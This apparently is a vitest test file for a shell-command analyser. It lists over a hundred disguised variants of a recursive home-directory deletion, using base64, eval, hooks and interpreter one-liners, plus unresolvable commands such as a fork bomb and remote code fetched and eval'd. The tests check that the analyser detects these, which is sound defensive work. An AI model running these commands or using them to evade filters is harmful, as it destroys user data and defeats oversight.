/** The same deletion, spelled in every way that hides it from whoever only looks for words. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the shell writes its variables so

import { describe, expect, it } from 'vitest';
import { effectsOf, factsOf, sayingsOf, underlined } from './reading.ts';

const DELETES = [
  'rm -rf ~/x',
  "r''m -rf ~/x",
  'r""m -rf ~/x',
  '\\rm -rf ~/x',
  '/bin/rm -rf ~/x',
  '/usr/bin/rm -rf ~/x',
  'rm${IFS}-rf${IFS}/home/dev/x',
  'rm -r -f ~/x',
  'rm --recursive --force ~/x',
  'rm -rf -- ~/x',
  'rm -rf "$HOME/x"',
  'rm -rf ${HOME}/x',
  'rm -rf ../x',
  'rm -rf src/../../x',
  'cd .. && rm -rf x',
  'cd ~; rm -rf x',
  'pushd ~ && rm -rf x',
  '{rm,-rf,/home/dev/x}',
  'rm -rf {~,/home/dev}/x',
  'a=r;b=m;$a$b -rf ~/x',
  'x="rm -rf"; $x ~/x',
  'a=(rm -rf ~/x); "${a[@]}"',
  'set -- rm -rf ~/x; "$@"',
  'x=zrm; ${x#z} -rf ~/x',
  'x=rmzz; ${x:0:2} -rf ~/x',
  'x=RM; ${x,,} -rf ~/x',
  '${x:-rm} -rf ~/x',
  'p=cmd; cmd=rm; ${!p} -rf ~/x',
  "$'\\x72\\x6d' -rf ~/x",
  '$(echo rm) -rf ~/x',
  '`echo rm` -rf ~/x',
  "$(printf '\\162\\155') -rf ~/x",
  'ls\nrm -rf ~/x',
  'ls # nothing here\nrm -rf ~/x',
  'ls & rm -rf ~/x',
  'ls | rm -rf ~/x',
  'ls || rm -rf ~/x',
  '! rm -rf ~/x',
  'time rm -rf ~/x',
  '(rm -rf ~/x)',
  '{ rm -rf ~/x; }',
  'if true; then rm -rf ~/x; fi',
  'if true; then :; else rm -rf ~/x; fi',
  'while true; do rm -rf ~/x; done',
  'for i in 1; do rm -rf ~/x; done',
  'for d in ~/x; do rm -rf "$d"; done',
  'for ((;;)); do rm -rf ~/x; done',
  'case a in *) rm -rf ~/x;; esac',
  'c=:; while true; do $c; c="rm -rf /home/dev/x"; done',
  'f() { rm -rf ~/x; }; f',
  'function f { rm -rf "$1"; }; f ~/x',
  "alias gone='rm -rf'; gone ~/x",
  'coproc rm -rf ~/x',
  'x=$(rm -rf ~/x)',
  'echo "${y:-$(rm -rf ~/x)}"',
  'echo $(( $(rm -rf ~/x) ))',
  '[[ -n $(rm -rf ~/x) ]]',
  'cat <(rm -rf ~/x)',
  'ls > >(rm -rf ~/x)',
  'cat <<EOF\n$(rm -rf ~/x)\nEOF',
  'echo {a,$(rm -rf ~/x)}',
  "bash <<'EOF'\nrm -rf ~/x\nEOF",
  'bash <<< "rm -rf ~/x"',
  'echo rm -rf /home/dev/x | sh',
  "printf 'rm -rf %s' ~/x | sh",
  "printf '\\x72\\x6d -rf ~/x' | sh",
  'echo cm0gLXJmIH4veA== | base64 -d | sh',
  'base64 -d <<< cm0gLXJmIH4veA== | bash',
  'eval "$(echo cm0gLXJmIH4veA== | base64 --decode)"',
  "eval 'rm -rf ~/x'",
  'eval rm -rf "~/x"',
  'sh -c "rm -rf ~/x"',
  'bash -lc "rm -rf ~/x"',
  'zsh -ec "rm -rf ~/x"',
  `sh -c 'sh -c "rm -rf ~/x"'`,
  `bash -c 'rm -rf "$1"' _ ~/x`,
  "trap 'rm -rf ~/x' EXIT",
  "echo 'rm -rf ~/x' > x.sh; sh x.sh",
  "cat > x.sh <<'EOF'\nrm -rf ~/x\nEOF\nchmod +x x.sh && ./x.sh",
  "echo 'rm -rf ~/x' > x.sh; source ./x.sh",
  "cat <(echo 'rm -rf ~/x') | sh",
  'command rm -rf ~/x',
  'noglob rm -rf ~/x',
  '=rm -rf ~/x',
  'builtin command rm -rf ~/x',
  'exec rm -rf ~/x',
  'busybox rm -rf ~/x',
  'env -i rm -rf ~/x',
  'env A=1 B=2 rm -rf ~/x',
  "env -S 'rm -rf ~/x'",
  'A=1 rm -rf ~/x',
  'nohup rm -rf ~/x &',
  'nice -n 5 rm -rf ~/x',
  'timeout -s KILL 5 rm -rf ~/x',
  'stdbuf -oL rm -rf ~/x',
  "watch -n 1 'rm -rf ~/x'",
  'echo ~/x | xargs rm -rf',
  'echo ~/x | xargs -I{} rm -rf {}',
  'echo ~/x | xargs -n1 sh -c \'rm -rf "$0"\'',
  'find ~/x -delete',
  'find ~/x -exec rm {} \\;',
  "find . -execdir sh -c 'rm -rf ~/x' \\;",
  "git -c alias.x='!rm -rf ~/x' x",
  "git -c core.pager='rm -rf ~/x' log",
  "GIT_SSH_COMMAND='rm -rf ~/x' git fetch",
  "git submodule foreach 'rm -rf ~/x'",
  "tar xf a.tar --to-command='rm -rf ~/x'",
  "rsync -e 'rm -rf ~/x' a host:b",
  "ssh -o ProxyCommand='rm -rf ~/x' host",
  `python3 -c "import os; os.system('rm -rf ~/x')"`,
  `python3 -c "import subprocess as s, subprocess; subprocess.run(['rm', '-rf', '/home/dev/x'])"`,
  `python3 -c "import shutil; shutil.rmtree('/home/dev/x')"`,
  `python3 <<'EOF'\nimport os\nos.remove("/home/dev/x")\nEOF`,
  `node -e "require('child_process').execSync('rm -rf ~/x')"`,
  `node -e "require('child_process').spawn('rm', ['-rf', '/home/dev/x'])"`,
  `node -e "require('fs').rmSync('/home/dev/x', { recursive: true })"`,
  `perl -e 'system("rm -rf ~/x")'`,
  "ruby -e '`rm -rf ~/x`'",
];

describe('a deletion outside the project is seen', () => {
  it.each(DELETES)('%s', (command) => {
    const facts = factsOf(command);
    expect(effectsOf(facts)).toEqual(expect.arrayContaining(['delete', 'destructive']));
    expect(facts.paths).toContainEqual({ path: expect.stringMatching(/^\/home\/dev\/x(\/\*)?$/), where: 'outside', use: 'delete' });
    expect(sayingsOf(facts)).toContainEqual(expect.stringMatching(/^deletes ~\/x(\/\*)?, not in this project$/));
  });

  it.each(['rm -rf ~/x', "sh -c 'rm -rf ~/x'", 'sh -c "rm -rf ~/x"', 'ls; nohup rm -rf ~/x &', "eval 'rm -rf ~/x'"])(
    'and its very words are underlined: %s',
    (command) => {
      expect(underlined(factsOf(command), 'delete')).toEqual(['~/x']);
    },
  );
});

describe('what cannot be told is said to be so', () => {
  it.each([
    ['$cmd -rf ~/x', 'can’t be told before it runs: $cmd'],
    ['eval "$x"', 'runs what can’t be told before it runs: "$x"'],
    ['bash -c "$x"', 'runs what can’t be told before it runs: "$x"'],
    ['$(cat plan.txt)', 'can’t be told before it runs: $(cat plan.txt)'],
    ['r$x -rf ~/x', 'can’t be told before it runs: r$x'],
    ['${SHELL:-ls} $x', undefined],
    ['rm -rf "$DIR/build"', 'deletes what can’t be told before it runs: "$DIR/build"'],
    ['echo hi > "$OUT"', 'writes what can’t be told before it runs: "$OUT"'],
    ['cat list.txt | xargs rm', undefined],
    ['base64 -d secret.b64 | sh', undefined],
    ['cat plan.sh | bash', undefined],
    ['tr a-z n-za-m <<< "ez -es" | sh', undefined],
    ['cd "$D" && rm -rf build', 'deletes build, and which folder that is in is not known'],
    ['false || cd ~; rm -rf *', undefined],
    ['python3 -c "exec(open(0).read())"', undefined],
    [`python3 -c "import os; os.system(open('x').read())"`, undefined],
    ['git push origin $BRANCH', 'pushes what can’t be told before it runs: $BRANCH'],
    ['git $verb', undefined],
    ['rm -rf $(date +/home/dev/x)', undefined],
    ['rm -rf "$(git rev-parse --git-dir)"', undefined],
    [`node -e "fetch('https://x.example').then((r) => r.text()).then(eval)"`, undefined],
    [':(){ :|:& };:', undefined],
    ['LD_PRELOAD=./evil.so ls', 'makes other programs load ./evil.so (LD_PRELOAD)'],
    ['awk \'BEGIN { system("x") }\'', undefined],
    ["sed 's/.*/date/e' a.txt", undefined],
    ["vim -c ':!$x' a.txt", undefined],
    ["echo 'unterminated", 'can’t be read as shell commands: unterminated single quote'],
    ['if then', undefined],
    ['echo $((rm -rf ~/x))', 'holds arithmetic that can’t be read'],
  ])('%s', (command, says) => {
    const unresolved = factsOf(command).effects.filter(({ effect }) => effect === 'unresolved');
    expect(unresolved).not.toEqual([]);
    if (says !== undefined) expect(unresolved.map((fact) => fact.says)).toContain(says);
  });

  it('still tells what can be told beside it', () => {
    expect(effectsOf(factsOf('bash -c "cd $DIR && rm -rf ~/x"'))).toEqual(['delete', 'destructive', 'unresolved']);
  });

  it('takes an unknown program for code that runs', () => {
    expect(factsOf('frobnicate --all')).toMatchObject({ programs: ['frobnicate'], effects: [{ effect: 'runs-code', risk: 'plain' }] });
  });
});
